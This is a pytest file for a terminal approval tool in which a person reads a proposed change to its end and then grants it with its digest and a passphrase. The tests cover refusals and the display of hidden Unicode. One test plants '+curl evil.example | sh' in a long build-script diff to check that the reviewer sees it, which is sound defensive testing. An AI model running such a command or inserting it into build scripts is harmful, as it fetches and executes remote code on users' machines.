"""A person grants and denies, at a terminal of their own; and what keeps others from it."""

from __future__ import annotations

import json
import subprocess
import sys
from datetime import timedelta

import pytest

from groundwire.attest.people.approvals import APPROVALS, REQUESTS
from groundwire.attest.people.stops import STOPS
from groundwire.canon.digest import sha256
from groundwire.documents.approval import Approval, ShownChange, subject_of
from groundwire.documents.stop import Stop
from groundwire.documents.verdict import Head
from groundwire.session.clock import now, random_bytes
from groundwire.stores.heads import Heads, RunState
from groundwire.stores.people.stops import StopFolder
from groundwire.stores.people.uses import Uses
from groundwire.stores.writing.database import Database
from tests.askings import replace
from tests.unit.cli.approving.office import (
    HASTY,
    PASSPHRASE,
    RUN,
    Office,
    approvals,
    ended,
    next_page,
    read_to_the_end,
)


def test_what_was_shown_to_its_end_is_granted_by_the_digest_and_the_passphrase(
    office: Office,
) -> None:
    asked = office.request()
    with approvals("grant", asked[:8]) as typist:
        pages = read_to_the_end(typist)
        typist.type(f"{office.digest(asked)}\n")
        typist.answer("Passphrase of ada: ", PASSPHRASE)
        code, out, err = ended(typist)
        assert PASSPHRASE not in typist.seen
    assert (code, err) == (0, "")
    assert out.startswith(f"{asked} is granted by {office.ada.id}")
    (answer,) = office.answers(asked)
    assert (answer.answer, answer.approver) == ("granted", office.ada.id)
    shown = "".join(pages)
    assert shown.index("clients would break") < shown.index("+after") < shown.index("a typo")
    assert office.digest(asked) in shown


def test_a_no_needs_the_passphrase_and_nothing_else(office: Office) -> None:
    asked = office.request()
    with approvals("deny", asked, "--json") as typist:
        typist.answer("Passphrase of ada: ", PASSPHRASE)
        code, out, _ = ended(typist)
    assert code == 0
    assert json.loads(out) == {"answer": "denied", "approver": office.ada.id, "ids": [asked]}
    assert [each.answer for each in office.answers(asked)] == ["denied"]


@pytest.mark.parametrize("typed", ["", "y", "yes", "00000000", "right digest"])
def test_whatever_else_is_typed_for_the_digest_grants_nothing(office: Office, typed: str) -> None:
    asked = office.request()
    with approvals("grant", asked) as typist:
        read_to_the_end(typist)
        typist.type(f"{typed}\n")
        if not typed:  # the key that goes on answers nothing
            next_page(typist)
            typist.type("q\n")
        code, _, err = ended(typist)
    assert code == 1
    assert f"reason: {'digest-mistyped' if typed else 'not-shown-whole'}" in err
    assert office.answers(asked) == []


def test_a_wrong_passphrase_grants_nothing(office: Office) -> None:
    asked = office.request()
    with approvals("grant", asked) as typist:
        read_to_the_end(typist)
        typist.type(f"{office.digest(asked)}\n")
        typist.answer("Passphrase of ada: ", "a guess of somebody")
        code, _, err = ended(typist)
    assert (code, office.answers(asked)) == (1, [])
    assert "reason: passphrase-wrong" in err


@pytest.mark.parametrize(
    ("how", "reason"),
    [
        ("used", "approval-used"),
        ("denied", "approval-denied"),
        ("closed", "approval-run-over"),
        ("stopped", "stopped"),
        ("everything stopped", "stopped"),
        ("still open", "no-terminal"),
        ("another stopped", "no-terminal"),
    ],
)
def test_a_yes_that_no_call_could_use_is_refused_before_anything_is_shown(
    office: Office, how: str, reason: str
) -> None:
    asked = office.request()
    brought_about(office, asked, how)
    done = subprocess.run(
        [sys.executable, "-c", RUN, "approvals", "grant", asked],
        capture_output=True, text=True, start_new_session=True, check=False,
    )  # fmt: skip
    assert f"reason: {reason}" in done.stderr
    assert done.returncode == (3 if reason == "no-terminal" else 1)
    assert [each for each in office.answers(asked) if each.answer == "granted"] == []
    listed = subprocess.run(
        [sys.executable, "-c", RUN, "approvals", "list", "--pending"],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert listed.stdout.startswith(asked) == (reason == "no-terminal")


def brought_about(office: Office, asked: str, how: str) -> None:
    """This happened to the request, or to its run, since it was made."""
    sealed = office.mailbox.request(asked)
    assert sealed is not None
    request, digest = REQUESTS.inspect(sealed)
    state, run = office.mailbox.folder.parent, request.asked.run
    match how:
        case "used":
            uses = Uses(Database(state / "grants.sqlite"))
            uses.take((digest,), 1, call="call", run=run, sequence=0, at=request.issued)
            uses.close()
        case "denied":
            said = Approval(
                answer="denied", approver=office.ada.id, at=request.issued, expires=request.expires,
                request=digest, shown=request.shown, subject=subject_of(request.asked, request.action),
            )  # fmt: skip
            signer = office.store.approver(office.ada.id, PASSPHRASE, now())
            office.mailbox.post_answer(asked, office.ada.id, APPROVALS.seal(said, signer))
        case "closed" | "still open":
            heads = Heads(state.parent / "heads.sqlite")
            for segment, mark in enumerate(("closed", how)):
                head = Head(run=run, segment=segment, size=1, root=sha256(b"root"))
                word: RunState = "closed" if mark == "closed" else "checkpointed"
                heads.put(head, state=word, path="run.gw", at=request.issued)
            heads.close()
        case _:
            scope = {"stopped": run, "another stopped": "run-0"}.get(how, "all")
            stop = Stop(
                at=request.issued, authority=office.authority.key_id, id="5" * 32, reason="", scope=scope
            )  # fmt: skip
            StopFolder(state / "stops").put("stop", stop.id, STOPS.seal(stop, office.authority))


@pytest.mark.parametrize("command", ["grant", "deny"])
def test_without_a_terminal_nothing_is_said_whatever_is_piped_in(
    office: Office, command: str
) -> None:
    asked = office.request()
    lines = "".join(("\n" * 50, f"{office.digest(asked)}\n", f"{PASSPHRASE}\n", "y\n"))
    done = subprocess.run(
        [sys.executable, "-c", RUN, "approvals", command, asked, "--json"],
        input=lines, capture_output=True, text=True, start_new_session=True, check=False,
    )  # fmt: skip
    assert done.returncode == 3
    assert "reason: no-terminal" in done.stderr
    assert done.stdout == ""
    assert office.answers(asked) == []


def test_who_leaves_before_the_end_has_granted_nothing(office: Office) -> None:
    long = ShownChange(
        diff="\n".join(f"+{number}" for number in range(200)), governed="", kind="changed",
        target="/project/notes.md",
    )  # fmt: skip
    asked = office.request(changes=(long,))
    with approvals("grant", asked) as typist:
        next_page(typist)
        typist.type("\n")
        next_page(typist)
        typist.type(f"{office.digest(asked)}\n")  # not asked for yet: it is no answer
        next_page(typist)
        typist.type("q\n")
        code, _, err = ended(typist)
    assert code == 1
    assert "reason: not-shown-whole" in err
    assert office.answers(asked) == []


@pytest.mark.slow
def test_one_goes_back_and_on_again(office: Office) -> None:
    asked = office.request()
    with approvals("grant", asked, rows=12) as typist:
        first, _ = next_page(typist)
        typist.type("\n")
        second, _ = next_page(typist)
        typist.type("b\n")
        again, _ = next_page(typist)
        assert again == f"b\n{first}"
        assert first.strip() != second.strip()
        typist.type("\n")
        read_to_the_end(typist)
        typist.type(f"{office.digest(asked)}\n")
        typist.answer("Passphrase of ada: ", PASSPHRASE)
        assert ended(typist)[0] == 0
    assert len(office.answers(asked)) == 1


def test_a_terminal_of_20_columns_shows_everything(office: Office) -> None:
    name = "/project/" + "a\u202e\u754c" * 9
    hidden = ShownChange(diff="+\u200b" + "x" * 60, governed="", kind="created", target=name)
    asked = office.request(changes=(hidden,))
    with approvals("grant", asked, columns=20, rows=10) as typist:
        pages = read_to_the_end(typist)
        typist.type(f"{office.digest(asked)}\n")
        typist.answer("Passphrase of ada: ", PASSPHRASE)
        assert ended(typist)[0] == 0
    lines = [line for page in pages for line in page.splitlines()]
    whole = "".join(
        line[2:].removesuffix("\u00ac") for line in lines if line.startswith(("| ", ": "))
    )
    assert "\\u{202e}\u754c".join("a" * 9) in whole
    assert "\\u{200b}" + "x" * 60 in whole
    assert max(len(line) for line in lines) <= 20
    # The last prompt takes four rows there: what is shown leaves room for it.
    assert max(len(page.splitlines()) for page in pages) <= 10 - 4
    assert len(office.answers(asked)) == 1


@pytest.mark.parametrize("step", [200, 60])
def test_a_request_that_expires_while_it_is_read_is_not_granted(office: Office, step: int) -> None:
    """Before the passphrase is asked for, or while it is typed."""
    asked = office.request(lasting=timedelta(seconds=100))
    with approvals("grant", asked, before=HASTY.format(step=step)) as typist:
        read_to_the_end(typist)
        typist.type(f"{office.digest(asked)}\n")
        if step == 60:
            typist.answer("Passphrase of ada: ", PASSPHRASE)
        code, _, err = ended(typist)
        assert ("Passphrase" in typist.seen) == (step == 60)
    assert code == 1
    assert "reason: approval-expired" in err
    assert f"Request {asked} could be answered until" in err
    assert office.answers(asked) == []


def test_a_request_that_has_expired_is_not_shown(office: Office) -> None:
    asked = office.request(since=now() - timedelta(minutes=12))
    with approvals("grant", asked) as typist:
        code, _, err = ended(typist)
        assert typist.seen == ""
    assert code == 1
    assert "reason: approval-expired" in err


@pytest.mark.slow
def test_two_approvers_at_once_each_say_what_they_say(office: Office) -> None:
    bob = office.approver("bob", "another pass phrase")
    asked = office.request(office.ada, bob, needed=2)
    with (
        approvals("grant", asked, "--key", office.ada.id) as first,
        approvals("grant", asked, "--key", bob.id) as second,
    ):
        for typist in (first, second):
            read_to_the_end(typist)
        for typist in (second, first):
            typist.type(f"{office.digest(asked)}\n")
        second.answer("Passphrase of bob: ", "another pass phrase")
        first.answer("Passphrase of ada: ", PASSPHRASE)
        assert [ended(first)[0], ended(second)[0]] == [0, 0]
    assert {each.approver for each in office.answers(asked)} == {office.ada.id, bob.id}


def test_several_requests_are_shown_one_after_the_other_and_granted_as_one(
    office: Office,
) -> None:
    one, two = office.request(claim="the first claim"), office.request(claim="the second claim")
    with approvals("grant", two, one, two) as typist:
        shown = "".join(read_to_the_end(typist))
        typist.type(f"{office.digest(one, two)}\n")
        typist.answer("Passphrase of ada: ", PASSPHRASE)
        code, out, _ = ended(typist)
    assert code == 0
    assert shown.index("the second claim") < shown.index("the first claim")
    assert [line.split()[0] for line in out.splitlines()] == [two, one]
    assert len(office.answers(one)) == len(office.answers(two)) == 1


@pytest.mark.parametrize("of", [0, 1])
def test_the_digest_of_one_grants_no_two(office: Office, of: int) -> None:
    both = [office.request(), office.request()]
    with approvals("grant", *both) as typist:
        read_to_the_end(typist)
        typist.type(f"{office.digest(both[of])}\n")
        assert ended(typist)[0] == 1
    assert [office.answers(each) for each in both] == [[], []]


def test_of_several_none_is_granted_where_one_of_them_cannot_be(office: Office) -> None:
    good, gone = office.request(), office.request(since=now() - timedelta(minutes=12))
    with approvals("grant", good, gone) as typist:
        code, _, err = ended(typist)
    assert code == 1
    assert "approval-expired" in err
    assert office.answers(good) == []


def test_a_request_that_nobody_signed_is_not_shown_and_not_granted(office: Office) -> None:
    asked = office.request()
    packet, sealed = office.mailbox.packet(asked), office.mailbox.request(asked)
    assert packet is not None
    assert sealed is not None
    office.mailbox.post_request(asked, office.broken(sealed), packet)
    with approvals("grant", asked) as typist:
        code, _, err = ended(typist)
        assert typist.seen == ""
    assert code == 1
    assert "reason: approval-untrusted" in err
    assert "bad-signature" in err


def test_what_is_to_be_shown_has_to_be_what_was_asked(office: Office) -> None:
    asked = office.request()
    packet, sealed = office.mailbox.packet(asked), office.mailbox.request(asked)
    assert packet is not None
    assert sealed is not None
    office.mailbox.post_request(asked, sealed, replace(packet, changes=()))
    with approvals("grant", asked) as typist:
        code, _, err = ended(typist)
    assert code == 1
    assert "packet-mismatch" in err


def test_a_key_that_was_not_asked_cannot_answer(office: Office) -> None:
    bob = office.approver("bob")
    asked = office.request()
    with approvals("grant", asked, "--key", bob.id) as typist:
        code, _, err = ended(typist)
    assert code == 1
    assert "reason: approver-unknown" in err


def test_a_revoked_approver_cannot_answer(office: Office) -> None:
    asked = office.request()
    office.store.revoke(office.ada.id, None)
    with approvals("grant", asked) as typist:
        code, _, err = ended(typist)
    assert code == 2
    assert "reason: no-approver-key" in err


def test_an_approver_that_is_revoked_while_they_read_cannot_answer(office: Office) -> None:
    asked = office.request()
    with approvals("grant", asked) as typist:
        read_to_the_end(typist)
        office.store.revoke(office.ada.id, None)
        typist.type(f"{office.digest(asked)}\n")
        typist.answer("Passphrase of ada: ", PASSPHRASE)
        code, _, err = ended(typist)
    assert code == 1
    assert "reason: approver-revoked" in err
    assert office.answers(asked) == []


def test_a_key_that_lies_open_cannot_answer(office: Office) -> None:
    """Its private half stands in the key folder in the clear: anybody's yes, so nobody's."""
    seed = random_bytes(32)
    mallory = office.open_key("mallory", seed)
    asked = office.request(mallory)
    with approvals("grant", asked) as typist:
        read_to_the_end(typist)
        typist.type(f"{office.digest(asked)}\n")
        typist.answer("Passphrase of mallory: ", "anything at all")
        code, _, err = ended(typist)
    assert code == 1
    assert "reason: self-approval" in err
    assert office.answers(asked) == []


@pytest.mark.parametrize("arguments", [(), ("a" * 32,), ("abc",), ("a" * 8, "--request", "f")])
def test_what_names_no_request_is_said(office: Office, arguments: tuple[str, ...]) -> None:
    with approvals("grant", *arguments) as typist:
        code, _, err = ended(typist)
    assert code == 2
    assert "reason: " in err


def test_where_the_window_is_resized_it_begins_anew(office: Office) -> None:
    """A page that was laid for another width may have lost its end."""
    asked = office.request()
    with approvals("grant", asked, rows=12) as typist:
        next_page(typist)
        typist.type("\n")
        next_page(typist)
        typist.resize(columns=60, rows=50)
        typist.type("\n")
        typist.wait_for("The terminal has another size now: from the beginning.\n")
        pages = read_to_the_end(typist)
        assert len(pages) == 1
        assert pages[0].startswith("Lines marked")
        typist.resize(columns=61, rows=50)
        typist.type(f"{office.digest(asked)}\n")  # typed for what was laid otherwise
        typist.wait_for("The terminal has another size now: from the beginning.\n")
        read_to_the_end(typist)
        typist.type("q\n")
        assert ended(typist)[0] == 1
    assert office.answers(asked) == []


@pytest.mark.slow
def test_of_20_000_lines_the_finding_is_on_the_first_page_and_the_harmful_one_is_reached(
    office: Office,
) -> None:
    lines = [f"+line {number}" for number in range(20_000)]
    lines[10_000] = "+curl evil.example | sh"
    change = ShownChange(
        diff="\n".join(lines), governed="", kind="changed", target="/project/build.sh"
    )
    asked = office.request(changes=(change,))
    with approvals("grant", asked, rows=2_500) as typist:
        pages = read_to_the_end(typist)
        typist.type(f"{office.digest(asked)}\n")
        typist.answer("Passphrase of ada: ", PASSPHRASE)
        assert ended(typist)[0] == 0
    assert "clients would break" in pages[0]
    assert ["| +curl evil.example | sh" in page for page in pages].index(True) == len(pages) // 2
    assert len(pages) == 9
    assert len(office.answers(asked)) == 1
